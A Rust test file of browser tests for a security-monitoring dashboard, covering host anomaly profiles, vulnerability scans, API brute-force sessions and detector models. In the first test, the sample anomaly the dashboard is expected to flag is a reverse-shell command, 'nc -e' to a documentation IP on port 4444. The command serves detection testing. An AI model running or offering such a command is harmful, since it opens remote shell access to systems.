//! The pages of the families in a real browser: behaviour of hosts, sessions of an API, detectors, vulnerabilities.

use crate::browsing::{browse, open};

/// What is unusual on a host, why, and who started it, on a telephone and by what is on the page alone.
#[tokio::test(flavor = "multi_thread")]
async fn a_person_finds_what_is_unusual_on_a_host_and_why() {
    let server = open().await;
    browse(&server, |browser, url| {
        browser.resize(390, 844);
        browser.go(url);
        browser.follow("header a[href='/profiles']");
        assert!(browser.text("main tbody tr").contains("active"), "{}", browser.text("main"));
        browser.follow("main a[href='/profiles/usual']");
        let rare = browser.text("#rare + .scroll tbody");
        assert!(
            rare.contains("nc -e <sh> 203.0.113.7 4444")
                && rare.contains("never seen: proc.exepath, proc.pname"),
            "{rare}"
        );
        assert!(!rare.contains("nginx ← systemd"), "{rare}");
        browser.click("#rare + .scroll summary");
        browser.wait_for(
            "document.querySelector('#rare + .scroll tbody').innerText.includes('nginx ← systemd')",
        );
        let why = browser.text("#rare + .scroll details dl");
        assert!(why.contains("/usr/bin/nc new") && why.contains("never"), "{why}");
        // The way to it is open in the tree, and what is usual is closed.
        let tree = browser.text(".tree");
        assert!(
            tree.contains("nginx") && tree.contains("nc 1 event 1 rare") && !tree.contains("backup"),
            "{tree}"
        );
        browser.click(".tree details:not([open]) > summary");
        browser.wait_for("document.querySelector('.tree').innerText.includes('backup 120 events')");
        assert!(browser.text("#common + .scroll").contains("/usr/bin/backup | cron"));
        assert!(browser.text("main").contains("No host tells what it saw"));
        browser.wait_for("document.querySelector('figure.chart')?.dataset.ready === 'yes'");
        browser.follow(".spans a[href='/profiles/usual?span=1h']");
        assert!(browser.text(".spans [aria-current]").contains("1h"));
        assert_eq!(browser.complaints(), Vec::<String>::new());
    })
    .await;
    server.server.stop().await;
}

/// Which vulnerabilities there are, and what the last scan changed, by links alone.
#[tokio::test(flavor = "multi_thread")]
async fn a_person_sees_what_the_last_scan_changed() {
    let server = open().await;
    browse(&server, |browser, url| {
        browser.go(&format!("{url}/vulnerabilities"));
        let text = browser.text("main");
        assert!(
            text.contains("2 open") && text.contains("Old <library>") && !text.contains("Weak cipher"),
            "{text}"
        );
        // Critical: one that is known for 30 to 90 days.
        let critical = browser.evaluate(
            "[...document.querySelector('tbody tr').cells].map((cell) => cell.innerText).join(' ')",
        );
        assert_eq!(critical, "critical 1 0 0 1 0 0 0");
        browser.follow("main a[href*='first_seen_ms']");
        assert!(browser.text("#findings + .scroll").contains("New hole"), "{}", browser.text("main"));
        browser.go(&format!("{url}/vulnerabilities"));
        browser.follow("main a[href*='fixed_ms']");
        assert!(browser.text("#findings + .scroll").contains("Weak cipher"), "{}", browser.text("main"));
        browser.follow("#findings + .scroll a");
        assert!(browser.text("main").contains("Update <it>."), "{}", browser.text("main"));
        browser.go(&format!("{url}/vulnerabilities?filter=port%3D%3D"));
        assert!(browser.text("[role=alert]").contains("filter"), "{}", browser.text("main"));
        assert_eq!(browser.complaints(), Vec::<String>::new());
    })
    .await;
    server.server.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_person_sees_who_misuses_an_api_and_why() {
    let server = open().await;
    browse(&server, |browser, url| {
        browser.go(url);
        browser.follow("header a[href='/sessions']");
        let row = browser.text("main tbody tr");
        assert!(
            row.contains("client=203.0.113.7") && row.contains("brute_force"),
            "{}",
            browser.text("main")
        );
        browser.click("main tbody summary");
        browser.wait_for("/attempts to log in/.test(document.querySelector('main tbody ol').innerText)");
        assert!(browser.text("main").contains("No model is kept"));
        // The session in full: what it did, beside what is known, and what people say of it.
        browser.follow("main tbody th a");
        let page = browser.text("main");
        assert!(
            page.contains("flagged")
                && page.contains("brute_force: 60 attempts to log in, 60 of them refused"),
            "{page}"
        );
        assert!(browser.text("figure.graph ol").contains("POST /login 60×, 60 refused"), "{page}");
        browser.click("#steps summary");
        browser.wait_for("document.querySelector('#steps tbody')?.innerText.includes('59')");
        browser.follow("button[value=anomalous]");
        assert!(browser.text("[role=alert]").contains("why: is empty"), "{}", browser.text("main"));
        browser.complaints();
        browser.write("#why", "guesses <passwords>");
        browser.follow("button[value=anomalous]");
        let said = browser.text("main .said");
        assert!(said.contains("anomalous, says anonymous") && said.contains("guesses <passwords>"), "{said}");
        browser.follow("main form button.plain");
        assert!(browser.text("main").contains("Nobody has said yet"), "{}", browser.text("main"));
        assert_eq!(browser.complaints(), Vec::<String>::new());
    })
    .await;
    server.server.stop().await;
}

/// A training that goes on: its errors are drawn while they come, also before there is a model of its name.
#[tokio::test(flavor = "multi_thread")]
async fn a_person_watches_how_a_training_goes() {
    let server = open().await;
    // As `lanner detector train --tell` writes it.
    let pass = async |n: u32| {
        let error = 1.0 / f64::from(n);
        let fields = format!(
            "pass={n},passes=20,forecast={error},reconstruction={error},later_forecast={},later_reconstruction=0.5",
            error * 1.5
        );
        server.text("/api/v2/write", format!("detector.training,detector=shop {fields}")).await;
    };
    pass(1).await;
    pass(2).await;
    let (url, folder) = (server.url.clone(), tempfile::tempdir().unwrap());
    let opened = tokio::task::spawn_blocking(move || {
        let mut browser = lanner_testkit::Browser::start(folder.path())?;
        browser.resize(390, 844);
        browser.go(&format!("{url}/detectors"));
        let row = browser.text("#trainings tbody tr");
        let says = ["shop", "training", "2 of 20", "0.75"];
        assert!(says.iter().all(|part| row.contains(part)), "{row}");
        browser.follow("#trainings a");
        browser.wait_for("document.querySelector('figure.chart')?.dataset.ready === 'yes'");
        assert!(browser.text("#training h2").contains("2 of 20 passes"), "{}", browser.text("main"));
        Some(browser)
    });
    let Some(mut browser) = opened.await.unwrap() else { return };
    pass(3).await;
    tokio::task::spawn_blocking(move || {
        browser.wait_for("document.querySelector('#training h2').innerText.includes('3 of 20 passes')");
        browser.wait_for("document.querySelector('figure.chart')?.dataset.ready === 'yes'");
        let table = browser.evaluate("document.querySelector('#training table').textContent");
        assert!(table.as_str().unwrap().contains("0.333333"), "{table}");
        assert_eq!(browser.complaints(), Vec::<String>::new());
    })
    .await
    .unwrap();
    server.server.stop().await;
}

/// A trained detector: what it looks at, how often it would find something, and another version that takes over and goes back.
#[tokio::test(flavor = "multi_thread")]
async fn a_person_sees_what_a_detector_does_and_chooses_another_version() {
    let server = open().await;
    browse(&server, |browser, url| {
        browser.resize(390, 844);
        browser.go(url);
        browser.follow("header a[href='/detectors']");
        let row = browser.text("main tbody tr");
        assert!(row.contains("400 rows") && row.contains("1 rule") && row.contains("of 2 kept"), "{row}");
        browser.follow("main tbody a");
        let page = browser.text("main");
        assert!(page.contains("it scores") && page.contains("odd-load"), "{page}");
        assert_eq!(browser.text("tr.chosen th"), "max: 1 the threshold");
        let before = browser.text("main h2#models + .scroll tbody tr:has(b)");
        assert!(before.contains("champion"), "{before}");
        browser.follow("form.filter button");
        browser.follow("main button[value=champion]");
        assert!(browser.text("h1").contains("the champion of detector/web"), "{}", browser.text("main"));
        assert!(browser.text(".compare").contains("expected_alarms_per_day"), "{}", browser.text("main"));
        browser.write("#message", "it sees more rows");
        browser.follow("form.confirm button");
        assert_eq!(browser.evaluate("location.pathname"), "/detectors/web");
        let after = browser.text("main h2#models + .scroll tbody tr:has(b)");
        let id = |row: &str| row.split_whitespace().next().map(str::to_owned);
        assert_ne!(id(&before), id(&after));
        browser.follow("main form[action='/models/rollback'] button");
        assert!(browser.text("h1").contains("Go back to the champion before"), "{}", browser.text("main"));
        browser.follow("form.confirm button");
        let again = browser.text("main h2#models + .scroll tbody tr:has(b)");
        assert_eq!(id(&again), id(&before));
        assert_eq!(browser.complaints(), Vec::<String>::new());
    })
    .await;
    server.server.stop().await;
}
